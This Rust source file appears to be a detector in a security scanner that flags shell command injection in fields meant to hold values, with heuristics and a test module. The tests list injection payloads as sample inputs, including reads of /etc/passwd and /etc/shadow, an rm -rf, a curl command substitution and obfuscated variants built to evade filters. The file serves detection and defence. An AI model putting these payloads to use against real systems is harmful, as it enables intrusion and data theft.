//! Shell commands where a value was expected.
//!
//! **What it finds.** An operator of a shell (`;`, `|`, `&`, the end of a line, `` ` ``, `$(`) followed by a whole
//! command, where what stands before it is no command but a value: nothing, a name, a parameter, a closed quote.
//!
//! **Why it matters.** A tool that puts the value into a command line runs the attacker's command (CWE-78).
//!
//! **Example.** `photo.jpg; cat /etc/passwd`
//!
//! Command lines as such (`npm install && npm test`), scripts, words in backticks and rows of tables are left alone. To
//! allow commands in a field, such as the argument of a terminal tool, allow this class for that field.

use super::{
    commands::{self, Strength},
    setting::{in_backticks, in_sentence, is_value, line_before},
    words::{self, Command},
};
use crate::{
    detector::{Detector, Finds, Hit, Outcome},
    text::View,
};
use palisade_model::Severity;
use std::ops::Range;

pub(crate) static SHELL: Detector = Detector {
    class: "guard.injection.shell",
    version: "1",
    severity: Severity::High,
    title: "Shell command in a value",
    remediation: "Call the program without a shell and pass the value as an argument of its own.",
    references: &["CWE-78", "CWE-77", "OWASP-A03"],
    finds: Finds::Places { needles: &NEEDLES, confirm },
};

/// Operators with the beginning of a command. A single operator would stand in every line of code.
static NEEDLES: [&[u8]; 152] = {
    let mut needles: [&[u8]; 152] = [b""; 152];
    let letters: [&[u8]; 130] = [
        b";a", b";b", b";c", b";d", b";e", b";f", b";g", b";h", b";i", b";j", b";k", b";l", b";m", b";n", b";o", b";p",
        b";q", b";r", b";s", b";t", b";u", b";v", b";w", b";x", b";y", b";z", b"|a", b"|b", b"|c", b"|d", b"|e", b"|f",
        b"|g", b"|h", b"|i", b"|j", b"|k", b"|l", b"|m", b"|n", b"|o", b"|p", b"|q", b"|r", b"|s", b"|t", b"|u", b"|v",
        b"|w", b"|x", b"|y", b"|z", b"&a", b"&b", b"&c", b"&d", b"&e", b"&f", b"&g", b"&h", b"&i", b"&j", b"&k", b"&l",
        b"&m", b"&n", b"&o", b"&p", b"&q", b"&r", b"&s", b"&t", b"&u", b"&v", b"&w", b"&x", b"&y", b"&z", b"`a", b"`b",
        b"`c", b"`d", b"`e", b"`f", b"`g", b"`h", b"`i", b"`j", b"`k", b"`l", b"`m", b"`n", b"`o", b"`p", b"`q", b"`r",
        b"`s", b"`t", b"`u", b"`v", b"`w", b"`x", b"`y", b"`z", b"\na", b"\nb", b"\nc", b"\nd", b"\ne", b"\nf", b"\ng",
        b"\nh", b"\ni", b"\nj", b"\nk", b"\nl", b"\nm", b"\nn", b"\no", b"\np", b"\nq", b"\nr", b"\ns", b"\nt", b"\nu",
        b"\nv", b"\nw", b"\nx", b"\ny", b"\nz",
    ];
    let others: [&[u8]; 22] = [
        b"; ", b"\n ", b"| ", b"& ", b"$(", b";/", b"|/", b"&/", b"`/", b"\n/", b";$", b"|$", b"&$", b";{", b"|{",
        b"&{", b";'", b";\"", b"|\"", b"\\n", b"|'", b";\\",
    ];
    let mut at = 0;
    while at < 130 {
        needles[at] = letters[at];
        at += 1;
    }
    while at < 152 {
        needles[at] = others[at - 130];
        at += 1;
    }
    needles
};

/// What stands before the operator.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Lead {
    /// Nothing, a name, the beginning of a parameter or a closing quote: a value was to end here.
    Value,
    /// Words that are no command.
    Words,
    /// A command, a prompt, or code: an operator belongs here.
    Script,
}

/// Words between separators that make a list.
const LIST_CELLS_MIN: usize = 3;

/// Bytes up to which a text without white space is one value.
const NAME_BYTES_MAX: usize = 80;

fn confirm(view: &View<'_>, at: usize) -> Outcome {
    let operator = operator_at(view, at);
    let line_end = view.bytes()[at] == b'\n';
    if line_end && view.bytes()[at..operator.end].iter().any(|byte| b";|&`$(".contains(byte)) {
        // The operator that follows has a needle of its own.
        return Outcome::Clean { until: at + 1 };
    }
    if !is_value(view)
        || !may_begin_command(view.bytes().get(operator.end))
        || view.bytes().get(at) == Some(&b'\\') && operator.is_empty()
    {
        return Outcome::Clean { until: if is_value(view) { at + 1 } else { view.bytes().len() } };
    }
    if is_plain_word(&view.bytes()[operator.end..]) {
        return Outcome::Clean { until: operator.end };
    }
    let command = words::read(view.bytes(), operator.end);
    let strength = commands::judge(&command);
    if strength == Strength::None {
        return Outcome::Clean { until: operator.end };
    }
    let confidence = confidence(view, &operator, &command, strength);
    if confidence < 0.4 {
        return Outcome::Clean { until: operator.end };
    }
    let end = view.slice(0..view.bytes().len()).floor_char_boundary(command.end);
    let why = match strength {
        Strength::Certain => "A shell command that reaches for something sensitive, or hides itself, follows a value.",
        _ => "An operator of a shell and a whole command follow a value.",
    };
    let hit = Hit::text(operator.start..end, None, confidence, why).until(end.max(at + 1));
    Outcome::Found(if confidence < 0.6 { hit.rated(Severity::Low) } else { hit })
}

/// True when a word stands there that is no command and hides nothing; nearly all that follows an operator.
fn is_plain_word(rest: &[u8]) -> bool {
    let length = rest.iter().take(64).take_while(|byte| byte.is_ascii_alphanumeric() || b"_.-".contains(byte)).count();
    let hides = rest.get(length).is_some_and(|byte| b"'\"\\$^/({%?*".contains(byte));
    let (word, called) = (&rest[..length], rest[length..].starts_with(b"()"));
    !hides && !called && length > 0 && !std::str::from_utf8(word).is_ok_and(commands::is_command)
}

/// The operators around `at`, with the blanks after them.
fn operator_at(view: &View<'_>, at: usize) -> Range<usize> {
    let bytes = view.bytes();
    let start = view.byte_run_before(at, 8, |byte| b";|& `$(".contains(&byte)).start;
    let start = start + bytes[start..at].iter().take_while(|byte| **byte == b' ').count();
    let mut end = at;
    while end < bytes.len() && end < at + 24 {
        match &bytes[end..] {
            [b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b'(' | b' ' | b'\t', ..] => end += 1,
            [b'$', b'(', ..] => end += 2,
            [b'\\', b'n' | b'r', after, ..]
                if !after.is_ascii_alphabetic() || commands_may_follow(&bytes[end + 2..]) =>
            {
                end += 2
            }
            _ => break,
        }
    }
    start..end
}

/// True when a known command stands at the beginning of `rest`.
fn commands_may_follow(rest: &[u8]) -> bool {
    let length = rest.iter().take(16).take_while(|byte| byte.is_ascii_alphanumeric() || **byte == b'_').count();
    length >= 2 && std::str::from_utf8(&rest[..length]).is_ok_and(commands::is_command)
}

fn may_begin_command(byte: Option<&u8>) -> bool {
    byte.is_some_and(|byte| byte.is_ascii_alphabetic() || b"/\\'\"${^.".contains(byte))
}

/// How sure it is that `command` was smuggled in.
fn confidence(view: &View<'_>, operator: &Range<usize>, command: &Command, strength: Strength) -> f64 {
    let substitution = view.slice(operator.clone()).contains(['`', '$']);
    if is_markup(view, operator, command) {
        return 0.0;
    }
    if sign_is_line_end(view, operator) && !follows_name(view, operator, command, strength) {
        return 0.0;
    }
    let lead = lead(view, operator.start, substitution);
    let ends = is_end(view, command.end);
    match (lead, strength) {
        (Lead::Value, Strength::Certain) => 0.95,
        (Lead::Value, Strength::Strong) if ends => 0.88,
        (Lead::Value, Strength::Strong) => 0.6,
        (Lead::Value, Strength::Weak) if ends && command.words.len() == 1 => 0.45,
        (Lead::Words, Strength::Certain) => 0.85,
        (Lead::Words, Strength::Strong) if ends && !substitution => {
            let deliberate = command.words.first().is_some_and(|name| commands::is_deliberate(name));
            let span = operator.start..command.end;
            if deliberate && !in_sentence(view, &span) && !in_backticks(view, &span) { 0.82 } else { 0.5 }
        }
        (Lead::Script, Strength::Certain) if command.disguised => 0.6,
        _ => 0.0,
    }
}

/// True for a row of a table, alternatives of a pattern, words in backticks within text, and a line that goes on.
fn is_markup(view: &View<'_>, operator: &Range<usize>, command: &Command) -> bool {
    let text = view.bytes();
    let sign = view.slice(operator.clone());
    let bars = memchr::memchr_iter(b'|', text).count();
    let piped = sign.contains('|') && !sign.contains("||");
    let row = bars >= 3 && text.trim_ascii().ends_with(b"|") && text.contains(&b' ');
    let goes_on = text[command.end..].trim_ascii_start().starts_with(b"\\");
    let continued = goes_on && matches!(text[command.end..].trim_ascii_start().get(1), None | Some(b'\n' | b'\r'));
    if is_list(text) || is_pair(text, operator, command) {
        return true;
    }
    let continued = continued || text.trim_ascii().ends_with(b" \\");
    (piped && (row || bars >= 5)) || continued || is_quotation(view, operator, command)
}

/// True when the operator is the end of a line and nothing else.
fn sign_is_line_end(view: &View<'_>, operator: &Range<usize>) -> bool {
    let sign = view.bytes()[operator.clone()].trim_ascii();
    sign.is_empty() && view.bytes()[operator.clone()].contains(&b'\n')
}

/// True when a command on a line of its own is the end of a text whose first line is one name: no heading, no fence,
/// no list. Lines follow lines everywhere else.
fn follows_name(view: &View<'_>, operator: &Range<usize>, command: &Command, strength: Strength) -> bool {
    let before = view.bytes()[..operator.start].trim_ascii();
    let name = !before.iter().any(u8::is_ascii_whitespace)
        && before.first().is_none_or(|byte| byte.is_ascii_alphanumeric() || b"'\"/?-".contains(byte))
        && before.last() != Some(&b':')
        && (before.is_empty() || !before.iter().all(u8::is_ascii_uppercase));
    let telling = command.words.first().is_some_and(|name| commands::is_deliberate(name) || commands::is_probe(name));
    let last = !view.bytes()[command.end..].trim_ascii().contains(&b'\n');
    let named = !before.is_empty() || !command.words.iter().any(|word| word == "-" || word == "\\-");
    name && named && last && (telling || strength == Strength::Certain)
}

/// True for words between separators, as headings of tables and alternatives of a pattern are.
fn is_list(text: &[u8]) -> bool {
    let cells = || {
        text.split(|byte| matches!(byte, b';' | b'|' | b'&')).map(<[u8]>::trim_ascii).filter(|cell| !cell.is_empty())
    };
    let plain = |cell: &[u8]| cell.iter().all(|byte| byte.is_ascii_alphanumeric() || *byte == b'_');
    cells().nth(LIST_CELLS_MIN - 1).is_some() && cells().all(plain)
}

/// True for two words with a sign between them, `name | id`.
fn is_pair(text: &[u8], operator: &Range<usize>, command: &Command) -> bool {
    let before = &text[..operator.start];
    let spaced = text.get(operator.start) == Some(&b' ') || before.ends_with(b" ");
    let word = before.trim_ascii();
    let plain = !word.is_empty() && word.iter().all(u8::is_ascii_alphabetic);
    let alone = command.words.len() == 1 && text[command.end..].trim_ascii().is_empty();
    spaced && plain && alone && !command.words.first().is_some_and(|name| commands::is_deliberate(name))
}

/// True for backticks that quote: a fence, a word in a sentence or a comment.
fn is_quotation(view: &View<'_>, operator: &Range<usize>, command: &Command) -> bool {
    let text = view.bytes();
    let sign = view.slice(operator.clone());
    if !sign.ends_with('`') || sign.contains(['$', ';', '|', '&']) {
        return false;
    }
    let telling = command.words.len() > 1
        || command.words.first().is_some_and(|name| commands::is_deliberate(name) || commands::is_probe(name));
    let whole = telling && text[..operator.start].trim_ascii().is_empty() && text[command.end..].trim_ascii() == b"`";
    let attached =
        text[..operator.start].last().is_some_and(|byte| byte.is_ascii_alphanumeric() || b"='\"".contains(byte));
    sign.contains("``") || !(whole || (attached && lead(view, operator.start, true) == Lead::Value))
}

/// True when nothing but operators, quotes, brackets and comments follows.
fn is_end(view: &View<'_>, end: usize) -> bool {
    let rest = view.bytes()[end..].trim_ascii();
    let rest = rest.strip_prefix(b"\\n").unwrap_or(rest);
    let closing = rest.iter().take_while(|byte| b";|&'\"`)}]>#-/\\ \n\r\0".contains(byte)).count();
    let operators = rest.iter().take_while(|byte| b";|& '\"`)".contains(byte)).count();
    closing == rest.len()
        || rest.starts_with(b"#")
        || rest.starts_with(b"<!--")
        || (operators > 0 && commands_may_follow(&rest[operators..]))
}

/// What stands before the operator at `at`.
fn lead(view: &View<'_>, at: usize, substitution: bool) -> Lead {
    let Some(line) = line_before(view, at) else { return Lead::Words };
    let first_line = !view.bytes()[..at - line.len()].iter().any(|byte| !byte.is_ascii_whitespace());
    let indented = line.starts_with(b"  ") || line.starts_with(b"\t");
    let line = line.trim_ascii();
    if line.is_empty() {
        return if first_line && !indented { Lead::Value } else { Lead::Script };
    }
    if is_script(line, substitution) {
        return Lead::Script;
    }
    let ends_open = line.last().is_some_and(|byte| b"(,[<{!".contains(byte));
    if ends_open {
        return Lead::Script;
    }
    let name = line.len() <= NAME_BYTES_MAX && !line.contains(&b' ');
    if name || ends_parameter(line) || closes_quote(line) {
        return Lead::Value;
    }
    Lead::Words
}

/// Words and signs with which lines of scripts, programs and lists begin.
static SCRIPT_WORDS: [&[u8]; 28] = [
    b"$", b"#", b">", b"%", b"//", b"///", b"//!", b"#!", b"*", b"-", b"[", b"[[", b"!", b"test", b"export", b"if",
    b"elif", b"while", b"for", b"then", b"do", b"RUN", b"CMD", b"return", b"true", b"false", b"cd", b"exit",
];

/// True for a line that begins as a command, a prompt, an assignment or another piece of a script or program.
fn is_script(line: &[u8], substitution: bool) -> bool {
    let first = line.split(|byte| byte.is_ascii_whitespace() || b";|&".contains(byte)).next().unwrap_or_default();
    let more = first.len() < line.len();
    let is_command = if more { commands::is_command } else { commands::is_command_by_itself };
    let starts = std::str::from_utf8(first).is_ok_and(is_command);
    let opens = more && (SCRIPT_WORDS.contains(&first) || first.starts_with(b"--"));
    let spaced = line.contains(&b' ');
    let code = spaced && line.iter().any(|byte| b"{}(".contains(byte));
    let variable = line.windows(2).any(|two| two[0] == b'$' && (two[1].is_ascii_alphabetic() || two[1] == b'{'));
    starts || opens || code || variable || (substitution && is_assignment(line))
}

/// True for `name=` with or without the beginning of a value, as scripts and not queries have it.
fn is_assignment(line: &[u8]) -> bool {
    let name = line.iter().take_while(|byte| byte.is_ascii_alphanumeric() || **byte == b'_').count();
    name > 0 && line.get(name) == Some(&b'=') && !line.contains(&b'&')
}

/// True when `line` ends as `name=value` of a query.
fn ends_parameter(line: &[u8]) -> bool {
    let Some(equals) = memchr::memrchr(b'=', line) else { return false };
    let value = &line[equals + 1..];
    let name =
        line[..equals].iter().rev().take_while(|byte| byte.is_ascii_alphanumeric() || b"_-[]".contains(byte)).count();
    let before = line[..equals - name].last();
    name > 0 && before.is_none_or(|byte| b"?&;/".contains(byte)) && !value.contains(&b' ')
}

/// True when `line` ends with a quote that it did not open.
fn closes_quote(line: &[u8]) -> bool {
    let Some(quote @ (b'\'' | b'"')) = line.last() else { return false };
    memchr::memchr_iter(*quote, line).count() % 2 == 1
}

#[cfg(test)]
mod tests {
    use crate::testing::check;

    #[test]
    fn shell() {
        check(
            "guard.injection.shell",
            &[
                ("photo.jpg; cat /etc/passwd", 9..26),
                ("127.0.0.1 && whoami", 10..19),
                ("x|id", 1..4),
                ("/ping?host=1.1.1.1;sleep 5", 18..26),
                ("name'; rm -rf /tmp/x #", 5..21),
                ("`id`", 0..3),
                ("$(curl http://example.org/x)", 0..27),
                ("a\ncat /etc/shadow", 1..17),
                (";c'a't${IFS}/etc/hosts", 0..22),
                ("x;/???/c?t /tmp/x", 1..17),
                ("file & dir C:\\", 5..14),
                ("|w^h^o^a^m^i", 0..12),
                ("x;{cat,/etc/passwd}", 1..18),
            ],
            &[
                "npm install && npm test",
                "Run `ls` or `cat` to see the files; cat is shorter.",
                "| id | name | type |",
                "cat access.log | sort | uniq -c | head",
                "if (a & id) { b; }",
                "Terms; sort of; more or less",
                "#!/bin/sh\ncat /etc/os-release | grep ID\nls -l /tmp\n",
                "    && apt-get install -y curl \\\n    && rm -rf /var/lib/apt/lists/*",
                "https://example.org/?a=1&id=3&sort=name&type=x",
                "OS=$(uname -s)",
                "string | null",
            ],
        );
    }
}
